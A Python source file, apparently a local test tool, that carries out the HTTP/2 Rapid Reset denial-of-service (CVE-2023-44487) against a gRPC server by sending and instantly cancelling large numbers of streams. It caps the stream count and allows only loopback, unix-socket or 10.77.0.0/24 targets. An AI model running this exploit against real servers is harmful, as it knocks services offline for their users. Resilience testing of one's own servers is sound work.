"""A client that opens HTTP/2 streams and takes each back at once (CVE-2023-44487), against a server of ours on this machine: a
test tool. It sends a bounded number of streams, and only to 127.0.0.0/8, to a unix socket, or to an address of hosts.py.

    python3 rapid_reset.py 127.0.0.1:7700 --path /longhaul.v1.WorkerService/Session --streams 50000
"""

import argparse
import contextlib
import ipaddress
import socket
import struct
import sys
import time

MOST_STREAMS = 200_000
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 1, 3, 4, 7
END_HEADERS = 4
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header that both sides remember (RFC 7541, 6.2.1), so that it takes one byte from the second time on."""
    return b"\x40" + bytes([len(name)]) + name + bytes([len(value)]) + value


def first_headers(path):
    # :method POST and :scheme http are 3 and 6 of the static table.
    return b"\x83\x86" + literal(b":path", path) + literal(b":authority", b"a") + literal(b"te", b"trailers") + literal(
        b"content-type", b"application/grpc")


def later_headers():
    # The four remembered ones; the newest has number 62.
    return b"\x83\x86" + bytes([0x80 | index for index in (65, 64, 63, 62)])


def dial(target):
    if target.startswith("unix:"):
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(target.removeprefix("unix:"))
        return connection
    host, port = target.rsplit(":", 1)
    address = ipaddress.ip_address(host)
    if not address.is_loopback and address not in ipaddress.ip_network("10.77.0.0/24"):
        raise SystemExit("rapid_reset: this is a tool for tests on one machine")
    return socket.create_connection((host, int(port)))


def attack(target, path, streams):
    """How many streams were sent before the server ended the connection, and the seconds that it took."""
    streams = min(streams, MOST_STREAMS)
    begun = time.monotonic()
    sent = 0
    with dial(target) as connection:
        connection.settimeout(30)
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        with contextlib.suppress(OSError):
            while sent < streams:
                count = min(500, streams - sent)
                piece = b""
                for i in range(sent, sent + count):
                    stream = 2 * i + 1
                    block = later_headers() if i else first_headers(path.encode())
                    piece += frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                connection.sendall(piece)
                sent += count
    return sent, time.monotonic() - begun


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("target", help="127.x.y.z:PORT or unix:/PATH")
    parser.add_argument("--path", default="/longhaul.v1.WorkerService/Session")
    parser.add_argument("--streams", type=int, default=50_000, help=f"{MOST_STREAMS} at most")
    options = parser.parse_args()
    sent, seconds = attack(options.target, options.path, options.streams)
    print(f"{sent} streams in {seconds:.2f} s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
